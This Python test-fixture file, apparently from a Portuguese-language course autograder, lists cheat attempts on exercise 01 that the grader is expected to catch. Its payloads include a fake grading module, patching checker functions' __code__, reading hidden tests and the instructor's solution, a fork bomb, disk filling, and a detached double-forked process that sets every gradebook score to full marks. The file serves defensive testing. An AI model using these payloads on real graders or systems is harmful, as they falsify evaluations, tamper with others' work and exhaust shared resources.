"""Trapaças no exercício 01 (7 pontos: Parte A 2, B 2, C 3). Nenhuma resolve o que não resolveu.

As cinco da issue 10 (módulo falso em sys.modules, transformador de entrada, ``__code__`` trocado,
``source/`` lido por caminho relativo, fork duplo + setsid + ambiente limpo atacando o gradebook) e
mais: ler os testes ocultos pelo caminho absoluto, escrever fora da pasta de trabalho, abrir conexão
de rede, criar centenas de processos, encher o disco, dormir além do prazo ignorando a interrupção e
remendar a biblioteca de dentro do próprio módulo.
"""

from __future__ import annotations

from pathlib import Path

from autograder.instrutor.status import SUSPEITA, TEMPO
from trapacas import Trapaca

M = "ex01-modulo"
A, B, C = "ex01-iniciar-processos", "ex01-dividir", "ex01-soma-paralela"
NADA = {A: 0.0, B: 0.0, C: 0.0}
NAO_RESOLVIDO = 'raise NotImplementedError("Exercício ainda não resolvido")'
NOTEBOOK_A_MAIS = "as células do notebook deram mais pontos que o módulo"


def sem_resolver(*funcoes: str) -> dict[str, list[tuple[str, str]]]:
    """Trocas que deixam as funções pedidas sem resolver (como no release)."""
    assinaturas = {
        "iniciar_processos": "def iniciar_processos(n, fila):\n",
        "dividir": "def dividir(inicio, fim, k):\n",
        "soma_de_quadrados": "def soma_de_quadrados(inicio, fim):\n",
        "soma_paralela": "def soma_paralela(n, k, parcela=soma_de_quadrados):\n",
    }
    return {M: [(assinaturas[f], f"{assinaturas[f]}    {NAO_RESOLVIDO}\n") for f in funcoes]}


TODAS = ("iniciar_processos", "dividir", "soma_de_quadrados", "soma_paralela")
SO_DIVIDIR = ("iniciar_processos", "soma_de_quadrados", "soma_paralela")

#: Um objeto que passa por qualquer lista nas células de teste (len, índices, set, sorted, ==).
TUDO = '''
class Tudo(list):
    def __getitem__(self, i):
        return Tudo()
    __hash__ = object.__hash__
'''

FALSO_AUTOGRADER = TUDO + '''
import sys, types

class Falso(types.ModuleType):
    """Um autograder de mentira: toda verificação passa."""
    def __getattr__(self, nome):
        if nome.startswith("__"):
            raise AttributeError(nome)
        if nome == "carregar":
            return lambda modulo: types.SimpleNamespace(iniciar_processos=None, dividir=None, soma_de_quadrados=None, soma_paralela=None)
        if nome == "rodar_no_filho":
            return lambda *a, **k: Tudo()
        return lambda *a, **k: None

for nome in ("autograder", "autograder.execucao", "autograder.verificacoes_ex01"):
    sys.modules[nome] = Falso(nome)
'''

TRANSFORMADOR = '''# A "solução": nenhum módulo; toda célula seguinte roda dentro de try/except BaseException: pass.
def _embrulhar(linhas):
    corpo = "".join("    " + linha for linha in linhas)
    if not corpo.endswith("\\n"):
        corpo += "\\n"
    return ["try:\\n", corpo, "    pass\\n", "except BaseException:\\n", "    pass\\n"]

get_ipython().input_transformers_post.append(_embrulhar)
'''

CODIGO_TROCADO = '''import autograder.execucao as ex
import autograder.verificacoes_ex01 as v

def _nada(*args, **kwargs):
    class Tudo(list):
        def __getitem__(self, i):
            return Tudo()
        __hash__ = object.__hash__
    return Tudo()

ex.verificar.__code__ = _nada.__code__
ex.verificar_igual.__code__ = _nada.__code__
ex.rodar_no_filho.__code__ = _nada.__code__
for nome in dir(v):
    if nome.startswith("conferir"):
        getattr(v, nome).__code__ = _nada.__code__
'''

LE_SOURCE = '''# Roda a solução do instrutor, lida de ../../../source (a cópia da correção tinha source/).
import json, re
from pathlib import Path
for candidato in ["../../../source/ex01_processos/ex01_processos.ipynb", "../../source/ex01_processos/ex01_processos.ipynb"]:
    try:
        nb = json.loads(Path(candidato).read_text())
    except OSError as erro:
        print("não deu:", erro)
        continue
    for celula in nb["cells"]:
        texto = "".join(celula["source"])
        if texto.startswith("%%writefile solucao_ex01.py"):
            Path("solucao_ex01.py").write_text(texto.split("\\n", 1)[1])
    break
'''


def le_ocultos(raiz: Path) -> str:
    fonte = raiz / "source" / "ex01_processos" / "ex01_processos.ipynb"
    return f'''# Lê os testes ocultos pelo caminho absoluto do curso do instrutor e copia a solução dele.
import json
from pathlib import Path
try:
    nb = json.loads(Path({str(fonte)!r}).read_text())
    for celula in nb["cells"]:
        texto = "".join(celula["source"])
        if "HIDDEN TESTS" in texto:
            print(texto)
        if texto.startswith("%%writefile solucao_ex01.py"):
            Path("solucao_ex01.py").write_text(texto.split("\\n", 1)[1])
except OSError as erro:
    print("não deu:", erro)
'''


def escreve_fora(curso: Path) -> str:
    alvos = [curso / "gradebook.db", curso / "submitted" / "colega" / "ex01_processos" / "ex01_processos.ipynb",
             curso / "grades.csv", Path.home() / "trapaca.txt"]
    return f'''# Escreve fora da pasta de trabalho: o gradebook, a entrega de um colega, a home, o Python.
import sys
from pathlib import Path
for alvo in {[str(a) for a in alvos]!r} + [sys.prefix + "/trapaca.txt", "/usr/trapaca.txt"]:
    try:
        Path(alvo).write_text("estragado")
        print("escrevi", alvo)
    except OSError as erro:
        print("não deu:", erro)
'''


REDE = '''# Busca a "solução" na rede.
import socket, urllib.request
for host, porta in [("1.1.1.1", 80), ("8.8.8.8", 53)]:
    try:
        socket.create_connection((host, porta), timeout=3).close()
        print("conectei", host)
    except OSError as erro:
        print("não deu:", erro)
try:
    urllib.request.urlopen("http://example.com/solucao_ex01.py", timeout=3)
except OSError as erro:
    print("não deu:", erro)
'''

FORK_BOMBA = '''# Cria centenas de processos que ficam vivos.
import os, time
filhos, erro = 0, None
for _ in range(1000):
    try:
        pid = os.fork()
    except OSError as e:
        erro = e
        break
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    filhos += 1
print(filhos, "filhos;", "parou em:", erro)
'''

ENCHE_DISCO = '''# Enche o disco da correção.
import os
bloco = b"x" * (8 * 2**20)
escritos, erro = 0, None
for i in range(400):
    try:
        with open(f"lixo{i}.bin", "wb") as f:
            for _ in range(4):
                f.write(bloco)
                escritos += len(bloco)
    except OSError as e:
        erro = e
        break
print(escritos // 2**20, "MiB; parou em:", erro)
'''

DORME = '''# Dorme além do prazo do corretor, ignorando a interrupção do kernel.
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(1)
'''

#: O módulo que, ao ser importado, remenda a biblioteca no processo que o importa.
REMENDA_NO_MODULO = '''
import autograder.execucao as _ex

def _nada(*args, **kwargs):
    class Tudo(list):
        def __getitem__(self, i):
            return Tudo()
        __hash__ = object.__hash__
    return Tudo()

for _nome in ("verificar", "verificar_igual", "rodar_no_filho"):
    getattr(_ex, _nome).__code__ = _nada.__code__
import autograder.verificacoes_ex01 as _v
for _nome in dir(_v):
    if _nome.startswith("conferir"):
        getattr(_v, _nome).__code__ = _nada.__code__
'''


def ataque_gradebook(curso: Path, sinal: str) -> str:
    """Fork duplo, setsid, reexecução com ambiente vazio; o neto espera o corretor sair e põe nota
    cheia em todas as células do gradebook.db e do grades.csv do curso (e deixa uma prova)."""
    neto = f'''
import glob, os, sqlite3, sys, time
curso = {str(curso)!r}
fim = time.time() + 300  # vive mais que qualquer correção numa máquina ocupada; o teste o encerra
time.sleep(2)
while time.time() < fim:
    for banco in [curso + "/gradebook.db", *glob.glob("../../../gradebook.db")]:
        try:
            con = sqlite3.connect(banco, timeout=1)
            con.execute("UPDATE grade SET manual_score = 7")
            con.commit()
            con.close()
            open(curso + "/PROVA-" + sys.argv[1], "w").write("escrevi no gradebook")
        except Exception:
            pass
    try:
        open(curso + "/grades.csv", "a").write("trapaca,7\\n")
    except Exception:
        pass
    time.sleep(0.5)
'''
    return f'''# O ataque: fork duplo, setsid e um neto com ambiente vazio, que ninguém encontra pela marca.
import os, sys
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", {neto!r}, {sinal!r}], {{}})
    os._exit(0)
os.waitpid(pid, 0)
'''


def trapacas(curso: Path, raiz: Path, sinal: str) -> dict[str, Trapaca]:
    """As trapaças para um curso em ``curso`` (os ataques sabem o caminho dele) e o repositório ``raiz``."""
    return {
        "modulo_falso": Trapaca(
            NADA, SUSPEITA, ["trocar módulos em sys.modules", NOTEBOOK_A_MAIS],
            trocas=sem_resolver(*TODAS), novas_celulas=[(M, FALSO_AUTOGRADER)],
        ),
        "transformador": Trapaca(
            NADA, SUSPEITA, ["transformador de entrada", "não começa com %%writefile solucao_ex01.py", NOTEBOOK_A_MAIS],
            solucao=TRANSFORMADOR,
        ),
        "codigo_trocado": Trapaca(
            NADA, SUSPEITA, ["remendar funções (__code__)", NOTEBOOK_A_MAIS],
            trocas=sem_resolver(*TODAS), novas_celulas=[(M, CODIGO_TROCADO)],
        ),
        "le_source": Trapaca(
            {A: 0.0, B: 2.0, C: 0.0}, SUSPEITA, ["ler ou escrever fora da pasta de trabalho (../..)"],
            trocas=sem_resolver(*SO_DIVIDIR), novas_celulas=[(M, LE_SOURCE)],
        ),
        "le_ocultos": Trapaca(
            NADA, SUSPEITA, ["ler os testes do enunciado (source/)"],
            trocas=sem_resolver(*TODAS), novas_celulas=[(M, le_ocultos(raiz))],
        ),
        "ataque_gradebook": Trapaca(
            NADA, SUSPEITA, ["mexer no gradebook", "fork/setsid"],
            trocas=sem_resolver(*TODAS), novas_celulas=[(M, ataque_gradebook(curso, sinal))],
        ),
        "escreve_fora": Trapaca(
            NADA, SUSPEITA, ["escrever fora da pasta de trabalho (sistema de arquivos só leitura)"],
            trocas=sem_resolver(*TODAS), novas_celulas=[(M, escreve_fora(curso))],
        ),
        "rede": Trapaca(
            NADA, SUSPEITA, ["abrir conexões de rede"],
            trocas=sem_resolver(*TODAS), novas_celulas=[(M, REDE)],
        ),
        "fork_bomba": Trapaca(
            NADA, SUSPEITA, ["criar processos fora da árvore da correção", "criar processos além do limite"],
            trocas=sem_resolver(*TODAS), novas_celulas=[(M, FORK_BOMBA)],
        ),
        "enche_disco": Trapaca(
            NADA, SUSPEITA, ["encher o disco"],
            trocas=sem_resolver(*TODAS), novas_celulas=[(M, ENCHE_DISCO)],
        ),
        "dorme": Trapaca(
            NADA, TEMPO, [],
            trocas=sem_resolver(*SO_DIVIDIR), novas_celulas=[(M, DORME)],
        ),
        # Com a biblioteca nova o módulo só é importado nos executores: nem o notebook cai nessa.
        "remenda_no_modulo": Trapaca(
            NADA, SUSPEITA, ["remendar funções (__code__)"],
            trocas={M: [*sem_resolver(*TODAS)[M], ('"""Processos e pools (exercício 01)."""\n', '"""Processos e pools (exercício 01)."""\n' + REMENDA_NO_MODULO)]},
            precisa_da_biblioteca_nova=True,
        ),
    }
